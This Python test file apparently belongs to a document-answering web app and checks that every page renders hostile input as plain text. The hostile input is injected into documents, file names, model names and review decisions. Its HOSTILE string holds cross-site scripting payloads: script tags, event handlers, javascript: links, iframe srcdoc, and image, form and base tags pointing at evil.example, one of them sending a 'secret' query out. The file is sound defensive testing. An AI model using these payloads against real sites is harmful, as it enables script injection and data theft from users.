"""Hostile text of documents, models, people, file names: every page that shows it shows it as text."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from holdfast.storage.drafts import begin_draft, write_draft
from holdfast.testing.provider import ProviderServer, Scripted
from holdfast.testing.records import run_of

from .conftest import DOCUMENTS, Served, served, write_workflow
from .test_pages import seen_in

pytestmark = pytest.mark.long

MARK = "zq7"
HOSTILE = (
    f"<script>alert('{MARK}')</script><img src=x onerror=alert(2)><svg onload=alert(3)><a href='javascript:alert(4)'>"
    "<iframe srcdoc='<script>alert(5)</script>'></iframe><style>*{display:none}</style> [link](javascript:alert(6)) "
    "![x](https://evil.example/?q=secret) <form action=https://evil.example><base href=//evil.example> "
    "'\" autofocus onfocus=alert(7) {{ 7 * 7 }} \u202eevil"
)
NAME = f"{MARK}<img src=x onerror=alert(1)>'\".md"
BROKEN = f"{MARK}<svg onload=alert(1)>.pdf"
OPEN_DRAFT = "d" * 32


@dataclass(frozen=True, slots=True)
class Hostile:
    """A server, and its pages that show hostile text."""

    web: Served
    pages: tuple[str, ...]


@contextmanager
def hostile_desk(root: Path) -> Iterator[Hostile]:
    """Serve a workflow with hostile text wherever one can come from."""
    answer = f"The mixer of the HX-999 turns at 77 rpm [1]. {HOSTILE}"
    with ProviderServer([Scripted(text=answer)]) as model:
        more = (
            f"generation: {{rungs: [{{provider: openai, model: '{MARK}<b>', base_url: '{model.openai_url}', key_env: A_KEY}}], "
            "extractive: false}\nguardrails: {invisible: {action: note}}\n"
        )
        documents = DOCUMENTS | {
            NAME: f"# Mixer {HOSTILE}\n\nThe mixer of the HX-999 turns at 77 rpm. {HOSTILE}\n",
            BROKEN: "%PDF-1.7 broken",
        }
        with served(write_workflow(root / "desk", more=more, documents=documents)) as web:
            yield Hostile(web=web, pages=tuple(_pages(web)))


def _pages(web: Served) -> Iterator[str]:
    client = web.client("kim")
    form = {
        "item": json.dumps(
            {
                "question": f"At how many rpm does the mixer of the HX-999 turn? {HOSTILE}",
                "fields": {"claim_eur": HOSTILE},
            }
        )
    }
    files = [("attachment", (NAME, HOSTILE.encode(), "text/markdown"))]
    run = client.post("/api/items", data=form, files=files).json()["run"]
    words = {"run": run, "action": "hand_over", "to": HOSTILE[:150], "words": HOSTILE}
    assert client.post("/api/decisions", json=words).status_code == 200
    yield from (
        f"/w/desk/ask?run={run}",
        f"/w/desk/runs/{run}",
        "/w/desk/runs",
        "/w/desk/ask",
        "/w/desk/review",
    )
    yield f"/w/desk/review?case={run}"
    second = web.ask(f"Somebody was injured. {HOSTILE}", person="ana")["run"]
    edited = {"action": "edit", "text": f"Call us. {HOSTILE}", "words": HOSTILE}
    assert web.client("rita").post(f"/api/reviews/{second}/decision", json=edited).status_code == 200
    golden = web.client("rita").post(f"/api/reviews/{second}/golden").json()["case"]
    yield from (f"/w/desk/review?case={second}", "/w/desk/review?done=yes", f"/w/desk/review?golden={golden}")
    with web.flow.wiring.database.write() as connection:
        begin_draft(connection, OPEN_DRAFT, "", run_of(OPEN_DRAFT, user="kim", question=HOSTILE).item)
        write_draft(connection, OPEN_DRAFT, f"So far. {HOSTILE}", [])
    yield f"/w/desk/ask?run={OPEN_DRAFT}"
    path = client.get("/w/desk/documents").url.copy_with(
        path="/w/desk/document", params={"path": NAME, "start": "2", "end": "90"}
    )
    yield from (
        f"/w/desk/document?{path.query.decode()}",
        "/w/desk/documents",
        "/w/desk/sources",
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    root = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOLDFAST_HOME", str(root / "home"))
        patch.setenv("A_KEY", "k")
        with hostile_desk(root) as made:
            yield made


def test_every_page_shows_hostile_text_as_text(hostile: Hostile) -> None:
    for address in hostile.pages:
        answer = hostile.web.client("kim").get(address, headers={"accept": "text/html"})
        assert answer.status_code == 200, address
        assert MARK in answer.text, address
        assert "require-trusted-types-for 'script'" in answer.headers["content-security-policy"]
        for tag, attributes in seen_in(answer.text).tags:
            assert tag not in ("iframe", "style", "base", "object", "embed"), (address, tag)
            assert not [
                name for name in attributes if name.startswith("on") or name in ("srcdoc", "style")
            ], (address, attributes)
            for name in ("src", "href", "action", "formaction", "xlink:href"):
                value = attributes.get(name) or "/"
                assert value.startswith(("/", "#", "?")), (address, value)
                assert not value.startswith("//"), (address, value)
            assert tag != "script" or (attributes.get("src") or "").startswith("/static/"), address
            assert tag != "img" or (attributes.get("src") or "").startswith("/w/desk/page-picture?"), address


def test_a_passage_a_stream_and_a_download_carry_hostile_text_as_data(hostile: Hostile) -> None:
    client = hostile.web.client("kim")
    for address, params in (
        ("passage", {"path": NAME, "start": "0", "end": "90"}),
        ("original", {"path": NAME}),
    ):
        answer = client.get(f"/w/desk/{address}", params=params)
        assert answer.status_code == 200
        assert answer.headers["content-type"] in ("application/json", "application/octet-stream")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "\n" not in answer.headers.get("content-disposition", "")
    assert client.get("/w/desk/original", params={"path": NAME}).headers["content-disposition"].isascii()
